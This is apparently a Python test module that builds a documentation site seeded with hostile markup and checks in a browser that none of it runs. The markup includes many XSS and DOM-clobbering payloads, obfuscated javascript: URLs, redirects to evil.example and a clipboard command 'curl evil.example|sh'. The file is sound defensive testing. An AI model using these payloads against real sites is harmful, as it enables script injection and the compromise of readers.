# ruff: noqa: E501
"""A hostile site: what a stranger may write, at every place where a stranger may write.

Each payload would run the canary, `canary(NAME)`, or ask another host, if a page let it. `looked`
opens pages in a browser, does there what a reader does, and says what ran and who was asked.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Page, Request

from tree import CONFIG, draw, pair

EVIL = "evil.example"
"""The host of the stranger."""

_RUN = "canary(1)"
_IMAGE = f"<img src=x onerror={_RUN}>"

GADGETS: Mapping[str, str] = {
    "theme configuration": '<div id="__config">{&quot;base&quot;:&quot;https://evil.example/x/&quot;,&quot;features&quot;:[],'
    "&quot;search&quot;:&quot;&quot;,&quot;translations&quot;:{},"
    "&quot;version&quot;:{&quot;provider&quot;:&quot;mike&quot;}}</div>",
    "theme configuration, by an anchor": '<a name="__config">{&quot;base&quot;:&quot;https://evil.example/x/&quot;}</a>',
    "theme configuration, in a division": '> [!div id="__config" class="sxs-text"]\n> {"base": "https://evil.example/x/"}',
    "current script": '<img name="currentScript" src="https://evil.example/a/b/c.png">',
    "current script, by id": '<img id="currentScript" name="currentScript" src="b.png">',
    "diagrams": '<pre class="mermaid">graph TD; A--&gt;B</pre>',
    "diagrams, in code": '<pre class="mermaid"><code>graph TD; A--&gt;B</code></pre>',
    "diagrams, in a division": '> [!div class="mermaid"]\n> graph TD',
    "sidecar": '<div class="sxs-text" data-original="data:application/json,{&quot;total&quot;:1,&quot;sentences&quot;:'
    '[[0,1,&quot;&lt;img src=x onerror=canary(1)&gt;&quot;,1]]}">\n\nT\n\n</div>',
    "repository": f'<a data-md-component="source" href="https://gitlab.{EVIL}/a/b"><b>x</b></a>',
    "clipboard": '<span data-clipboard-text="curl evil.example|sh">click</span>',
    "clipboard, by target": '<p id="__code_9">curl evil.example|sh</p><b class="md-clipboard" data-clipboard-target="#__code_9">click</b>',
    "heading sign": f'<a class="headerlink" href="https://{EVIL}/">click</a>',
    "switcher": f'<details data-languages open><summary>x</summary><a hreflang="en" href="https://{EVIL}/">click</a></details>',
    "search": '<span class="sxs-find" data-tag="../../../evil">click</span>',
    "component": '<div data-md-component="announce" data-md-toggle="search" data-md-scrollfix>click</div>',
    "search index": f'<p data-pagefind-meta="also:=https://{EVIL}/" data-pagefind-filter="x:y">click</p>',
    "dialog": '<a href="#x" class="glightbox" data-description="&lt;img src=x onerror=canary(1)&gt;">click</a>',
    "class of the theme": '<p class="md-overlay md-search__overlay" id="__drawer">click</p>',
    "heading by slug": "## \\_\\_config",
    "heading by id": f'<h2 id="a&quot;&gt;{html.escape(_IMAGE)}">H</h2>',
    "heading by anchor": f'## <a name="b&quot;&gt;{html.escape(_IMAGE)}"></a>H',
    "heading by id, to elsewhere": "<h2 id='c\">"
    f"<meta http-equiv=refresh content=0;url=https://{EVIL}/>'>H</h2>",
    "code language": f"```x\"><img/src=x/onerror={_RUN}>\ncode\n```",
    "code language, long": f':::code language="x y&quot;><img src=x onerror={_RUN}>" source="a.cs":::',
    "tabs": '# [A](#tab/a"><img src=x onerror=canary(1)>)\n\nx\n\n# [B](#tab/b)\n\ny\n\n---',
}  # fmt: skip
"""Markup that the page's own scripts, or those of the theme, would obey."""

ADDRESSES = (
    "javascript:canary(1)",
    "&#xA0;javascript:canary(1)",
    "&#x2028;javascript:canary(1)",
    "&#x3000;javascript:canary(1)",
    "&#xFEFF;javascript:canary(1)",
    "&#x85;javascript:canary(1)",
    "&#x1F;javascript:canary(1)",
    "&#x200B;javascript:canary(1)",
    "java&#x9;script:canary(1)",
    "java&#xA;script:canary(1)",
    "java&#xAD;script:canary(1)",
    "javascript&colon;canary(1)",
    "javascript&#58;canary(1)",
    "javascript&#58canary(1)",
    "javascript&amp;#58;canary(1)",
    "javascript&amp;colon;canary(1)",
    "JaVaScRiPt:canary(1)",
    "&#x20;&#xA0;&#x20;vbscript:canary(1)",
    "data:text/html,<script>parent.canary(1)</script>",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "view-source:https://example.org/x",
    "ms-msdt:/id x",
    "intent://x#Intent;scheme=y;end",
    "javascript\\:canary(1)",
    "x:y",
)
"""Destinations that no link of a page may have; entities as an author writes them."""

CLASSIC = (
    _IMAGE,
    f"<script>{_RUN}</script>",
    f"<svg onload={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f"</title><script>{_RUN}</script>",
    f"</textarea></style></script><img src=x onerror={_RUN}>",
    f"{{{{ ''.__class__ }}}}{_IMAGE}",
    f"<math><mi//xlink:href=\"data:x,<script>{_RUN}</script>\">",
    "<iframe srcdoc=\"<script>parent.canary(1)</script>\">",
    f"<details open ontoggle={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<table><td><svg><desc><td><style></desc><img src onerror={_RUN}>",
    "<base href=https://evil.example/>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f"<meta http-equiv=refresh content=0;url=https://{EVIL}/>",
    f"<button popovertarget=x onclick={_RUN}>click</button>",
    f"<a href=javascript:{_RUN}>click</a>",
)  # fmt: skip
"""Markup that runs a script by itself."""


def article(*texts: str, skeleton: str = "") -> str:
    """Write an article: each text as both halves of a pair, and one text outside of pairs."""
    pairs = "\n\n".join(pair(f"aaaaa-{102 + n}", text, text) for n, text in enumerate(texts))
    return (
        "---\ntitle: Naslov\nms.topic: article\n---\n"
        f"# {pair('aaaaa-101', 'Naslov', 'Title')}\n\n{pairs}\n\n{skeleton}\n\nKonec.\n"
    )


def _oneline(text: str) -> str:
    return text.replace("\n", " ")


def site(root: Path) -> list[str]:
    """Draw a site with every payload; give the addresses of its pages below its root."""
    edited = "repo_url: https://example.org/repo\nedit_uri: edit/main/content/\ndocs_dir"
    actions = "  font: false\n  features: [content.action.edit, content.action.view]"
    config = CONFIG.replace("docs_dir", edited).replace("  font: false", actions)
    draw(root, config.replace("  - sxs\n", "  - sxs: {untrusted: all}\n"))
    quoted = [one.replace("'", "''") for one in CLASSIC]
    pages: dict[str, str] = {}
    gadgets = list(GADGETS.values())
    for number in range(7):  # those that would hide each other stand in a row
        some = gadgets[number::7]
        pages[f"g{number}.md"] = article(*map(_oneline, some), skeleton="\n\n".join(some))
    links = "\n\n".join(
        f"[click]({one}) <a href='{one}'>click</a> ![x]({one})\n\n[click][r{n}]\n\n[r{n}]: {one}"
        for n, one in enumerate(ADDRESSES)
    )
    inline = " ".join(f'[click]({one}) <a href="{one}">click</a>' for one in ADDRESSES)
    pages["links.md"] = article(inline, skeleton=links)
    classic = " ".join(CLASSIC)
    pages["classic.md"] = article(classic, skeleton="\n\n".join(CLASSIC))
    pages["included.md"] = article("x", skeleton="[!INCLUDE [x](includes/hostile.md)]")
    pages["includes/hostile.md"] = "\n\n".join([*CLASSIC, *GADGETS.values(), links])
    pages["code.md"] = article("x", skeleton="[!code-html[x](a.html)]\n\n[!code[y](b.cs#p)]")
    pages["a.html"] = "\n".join(CLASSIC)
    pages["b.cs"] = "// <p>\n" + "\n".join(CLASSIC) + "\n// </p>\n"
    for number, payload in enumerate(quoted[:8]):
        front = "\n".join(
            f"{key}: '{payload}'"
            for key in (
                "title", "description", "author", "ms.author", "ms.date", "ms.topic", "ms.service",
                "robots", "ms.custom", "ms.contentlocale", "ms.reviewer", "keywords", "uid",
                "ms.translationtype", "ms.locfileid",
            )
        )  # fmt: skip
        pages[f"front{number}.md"] = f"---\n{front}\n---\n\nBesedilo.\n"
        pages[f"plain{number}.md"] = f"---\nms.topic: x\n---\n# {CLASSIC[number]}\n\nBesedilo.\n"
    body = "\n".join(
        f"  - title: '{payload}'\n    text: '{payload}'\n    url: '{address}'\n    imageSrc: '{address}'"
        for payload, address in zip(quoted, ADDRESSES, strict=False)
    )
    for kind in ("Landing", "Hub", "FAQ", "LearningPath", "ModuleUnit"):
        pages[f"yaml-{kind.lower()}.yml"] = (
            f"### YamlMime:{kind}\ntitle: '{quoted[0]}'\nsummary: '{quoted[3]}'\n"
            f"metadata:\n  title: '{quoted[1]}'\n  description: '{quoted[2]}'\n"
            f"'{quoted[4]}': '{quoted[0]}'\n"
            f"items:\n{body}\nlandingContent:\n{body}\nsections:\n{body}\n"
        )
    pages["yaml-broken.yml"] = f"### YamlMime:FAQ\ntitle: {_IMAGE}\nx: [{_IMAGE}\n```\n{_IMAGE}\n"
    pages["TOC.yml"] = "".join(
        f"- name: '{payload}'\n  href: classic.md\n- name: click\n  href: '{address}'\n"
        for payload, address in zip(quoted, ADDRESSES, strict=False)
    )
    for name in (
        f'x"><img src=x onerror={_RUN}>',
        "x'-canary(1)-'",
        "x&lt;img src=x&gt;",
        "a b#c?d",
    ):
        pages[f"{name}.md"] = article("x")
    pages["index.md"] = f"---\ntitle: '{quoted[0]}'\nms.topic: x\n---\n# x\n"
    for path, text in pages.items():
        at = root / "content/sl-SI" / path
        at.parent.mkdir(parents=True, exist_ok=True)
        at.write_text(text, encoding="utf-8")
    draw(root, f"=== content/ro-RO/druga.md\n---\ntitle: x\n---\n# {_IMAGE}\n{CLASSIC[1]}\n")
    # What the program's own sheets and scripts know the search of a home page by.
    like_home = '<p class="sxs-leads sxs-field" data-find data-tag="xx-XX" data-s="search">x</p>'
    draw(root, f"=== content/ro-RO/cautare.md\n---\ntitle: x\n---\n# Cautare\n\n{like_home}\n")
    draw(root, f"=== content/ro-RO/index.md\n---\ntitle: '{_IMAGE}'\n---\n# Prima\n")
    draw(root, f"=== content/en-US/index.md\n---\ntitle: '{_IMAGE}'\nms.topic: x\n---\n# First\n")
    return sorted(pages)


def searched(browser: Browser, address: str, query: str) -> tuple[int, list[str]]:
    """Search from a home page, in the field that leads on; give the number of results, what ran."""
    context = browser.new_context()
    context.add_init_script(_CANARY)
    page = context.new_page()
    page.goto(address)
    page.locator("button[data-find]").click()
    page.locator("dialog input").first.fill(query)
    page.locator("dialog a").first.wait_for()
    found = page.locator("dialog a").count(), list(page.evaluate("window.ran"))
    context.close()
    return found


_CANARY = """
window.ran = [];
window.canary = (name) => { window.ran.push(String(name)); };
window.alert = window.canary;
window.forbidden = [];
document.addEventListener("securitypolicyviolation", (event) =>
  forbidden.push(`${event.violatedDirective} ${event.blockedURI}`));
"""


def placements(root: Path) -> int:
    """Count how often a payload stands in the files of a site."""
    known = {
        form
        for one in (*CLASSIC, *ADDRESSES, *GADGETS.values())
        for form in (one, _oneline(one), one.replace("'", "''"))
    }
    payload = re.compile("|".join(map(re.escape, sorted(known, key=len, reverse=True))))
    files = [path for path in (root / "content").rglob("*") if path.is_file()]
    return sum(len(payload.findall(path.read_text(encoding="utf-8"))) for path in files)


def looked(
    browser: Browser, addresses: Iterable[str], *, clicks: bool = True
) -> dict[str, list[str]]:
    """Open pages, choose the reading views, click on what says so; give what went wrong, by page.

    A picture of another host is no wrong: it is shown, as the author has it.
    """
    found: dict[str, list[str]] = {}
    context = browser.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.add_init_script(_CANARY)
    page = context.new_page()
    asked: list[str] = []
    own = ""

    def note(request: Request) -> None:
        if urlsplit(request.url).netloc != own and request.resource_type != "image":
            asked.append(f"{request.resource_type} {request.url}")

    page.on("request", note)
    for address in addresses:
        own = urlsplit(address).netloc
        asked.clear()
        page.goto(address)
        _settle(page)
        ran = list(page.evaluate("window.ran ?? []"))
        if clicks:
            ran += _used(page, address)
        # What the policy had to forbid got into the page all the same.
        forbidden = page.evaluate("window.forbidden ?? []")
        wrong = [f"ran {one}" for one in ran] + [f"asked {one}" for one in asked]
        wrong += [f"forbade {one}" for one in forbidden]
        if wrong:
            found[urlsplit(address).path] = wrong
    context.close()
    return found


def _settle(page: Page) -> None:
    """Wait until a page has done what it began: what it asks for last is answered last."""
    page.evaluate(
        "() => new Promise((done) => { const last = new Image();"
        " last.onerror = () => requestAnimationFrame(() => setTimeout(done));"
        " last.src = `/nothing?${Math.random()}`; })"
    )


def _used(page: Page, address: str) -> list[str]:
    """Do what a reader does, and give what ran by it."""
    page.evaluate("navigator.clipboard.writeText('mine')")
    ran: list[str] = []
    for view in ("sentences", "columns", "english"):
        button = page.locator(f"[data-views] [value={view}]").first
        if button.count():
            button.dispatch_event("click")
            _settle(page)
            if view == "sentences":
                page.evaluate(
                    "for (const one of document.querySelectorAll('.sxs-open')) one.click()"
                )
    ran += page.evaluate(
        "() => [...document.querySelectorAll('a[href], area[href]')].map((one) => one.protocol)"
        ".filter((one) => !/^(https?|mailto|tel|ms-settings):$/.test(one))"
    )
    page.evaluate(
        "() => { for (const one of document.querySelectorAll('article *, main *')) {"
        " if (one.textContent.trim() !== 'click') continue;"
        " if (one.matches('a')) one.addEventListener('click', (event) => event.preventDefault());"
        " one.click(); } }"
    )
    _settle(page)
    if page.url.partition("#")[0] != address:
        return [f"went to {page.url}"]
    ran += page.evaluate("window.ran ?? []")
    page.bring_to_front()
    if (held := page.evaluate("navigator.clipboard.readText()")) != "mine" and "evil" in held:
        ran.append(f"clipboard {held}")
    return ran
